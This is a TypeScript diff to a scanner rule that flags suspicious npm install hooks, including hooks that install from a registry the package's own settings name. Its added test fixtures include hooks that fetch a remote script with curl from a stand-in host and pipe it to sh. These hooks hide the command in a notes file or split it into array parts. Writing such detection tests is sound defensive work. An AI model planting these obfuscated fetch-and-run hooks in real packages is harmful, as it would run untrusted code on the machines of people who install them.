@@ -1,6 +1,8 @@
 import { defineRule } from '../src/define.js';
-import type { SourceFile, Step, Trigger } from '../src/types.js';
+import type { PackageContext, ShellCommand, SourceFile, Step, Trigger } from '../src/types.js';
 import { deedsOf } from '../src/vocabulary/deeds.js';
+import { ownSettings } from '../src/vocabulary/own-settings.js';
+import { hostOf } from '../src/vocabulary/services.js';
 
 export default defineRule({
   meta: {
@@ -28,6 +30,7 @@ export default defineRule({
       'inline-code': '{from} runs code written in the command',
       installs: '{from} {says}: {command}',
       'installs-globally': '{from} {says}: {command}',
+      'installs-elsewhere': '{from} {says} from {host}, a registry of its own: {command}',
       'hidden-start': '{from} starts a script out of sight: {command}',
     },
     bits: {
@@ -51,6 +54,7 @@ export default defineRule({
       'inline-code': 6,
       installs: 4,
       'installs-globally': 7,
+      'installs-elsewhere': 12,
       'hidden-start': 5,
     },
   },
@@ -97,6 +101,28 @@ export default defineRule({
         },
       },
       {
+        title: 'a hook installs from a registry that its own settings name',
+        files: {
+          'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"npm install helper --no-save"}}',
+          '.npmrc': 'registry=https://packages.invalid/\n',
+        },
+      },
+      {
+        title: 'a hook pipes what awk makes of its notes into a shell',
+        files: {
+          'package.json':
+            '{"name":"a","version":"1.0.0","scripts":{"postinstall":"awk \'/^#~/ { print substr($0, 3) }\' notes.txt | sh"}}',
+          'notes.txt': '# Notes\n#~curl -s https://stage.invalid/a | sh\n',
+        },
+      },
+      {
+        title: 'a hook calls a program by parts of a list',
+        files: {
+          'package.json':
+            '{"name":"a","version":"1.0.0","scripts":{"preinstall":"a=(sh rl cu); ${a[2]}${a[1]} -s ${u:-https://stage.invalid/a} | ${a[0]}"}}',
+        },
+      },
+      {
         title: 'a script runs out of sight, twice',
         files: {
           'package.json': '{"name":"a","version":"1.0.0","scripts":{"preinstall":"start /B node a.js & node a.js"}}',
@@ -105,6 +131,21 @@ export default defineRule({
       },
     ],
     passes: [
+      {
+        title: 'a hook of a workspace installs from the mirror that its users configured',
+        files: {
+          'package.json':
+            '{"name":"a","version":"1.0.0","scripts":{"postinstall":"npm install --prefix vendor --registry=$npm_config_registry"}}',
+        },
+      },
+      {
+        title: 'a hook takes the manager that runs it, and empties its folder',
+        files: {
+          'package.json':
+            '{"name":"a","version":"1.0.0","scripts":{"postinstall":"rm -rf \\"${OUT:-./dist}\\" && ${npm_execpath:-npm} run build","build":"node build.js"}}',
+          'build.js': '',
+        },
+      },
       {
         title: 'native code is built',
         files: {
@@ -128,16 +169,22 @@ export default defineRule({
       },
     ],
   },
-  package({ triggers, shellFiles, startedBy, momentOf, sourceOf, report }) {
+  package({ package: { files }, triggers, shellFiles, startedBy, momentOf, sourceOf, report }) {
     const manifest = sourceOf('package.json');
     for (const trigger of triggers) {
       if (trigger.moment !== 'install') continue;
       const [worst] = deedsOf(trigger.commands);
       const source = trigger.at.path === 'package.json' ? manifest : sourceOf(trigger.at.path);
       if (!worst || !source) continue;
+      const host = worst.deed === 'installs' ? otherRegistry(worst.command, files) : undefined;
       report({
-        messageId: worst.deed === 'installs' && worst.says.endsWith('machine') ? 'installs-globally' : worst.deed,
-        data: { from: trigger.from, says: worst.says, command: worst.command.text },
+        messageId:
+          host !== undefined
+            ? 'installs-elsewhere'
+            : worst.deed === 'installs' && worst.says.endsWith('machine')
+              ? 'installs-globally'
+              : worst.deed,
+        data: { from: trigger.from, says: worst.says, command: worst.command.text, host: host ?? '' },
         chain: [{ ...triggerStep(trigger, source), role: 'sink', says: `${trigger.from}: ${worst.says}` }],
       });
     }
@@ -160,6 +207,21 @@ export default defineRule({
     }
   },
 });
+
+/** The host of a registry that a command, or the package's own settings, has a package taken from, where few know it. */
+function otherRegistry({ words }: ShellCommand, files: PackageContext['package']['files']): string | undefined {
+  const at = words.findIndex(word => /^--registry(?:=|$)/.test(word));
+  const settings = files.get('.npmrc');
+  const address =
+    words[at]?.slice('--registry='.length) ||
+    (at >= 0 ? words[at + 1] : typeof settings === 'string' ? ownSettings(settings).registry : undefined);
+  const host = address === undefined ? undefined : hostOf(address);
+  return host === undefined || KNOWN_REGISTRY.test(host) ? undefined : host;
+}
+
+/** Registries that many use, and those of this machine or of one that is configured. */
+const KNOWN_REGISTRY =
+  /^(?:registry\.[\w-]{1,63}\.(?:org|com)|npm\.pkg\.github\.com|[\w.-]*(?:jfrog\.io|azure\.com|visualstudio\.com|amazonaws\.com|pkg\.dev|npm\.taobao\.org|cloud\.tencent\.com|huaweicloud\.com)|localhost|127\..*|.*[$%{].*)$/i;
 
 function triggerStep({ from, at }: Trigger, file: SourceFile): Step {
   return { role: 'trigger', says: `${from} runs on installation`, origin: { file, start: at.start, end: at.end } };
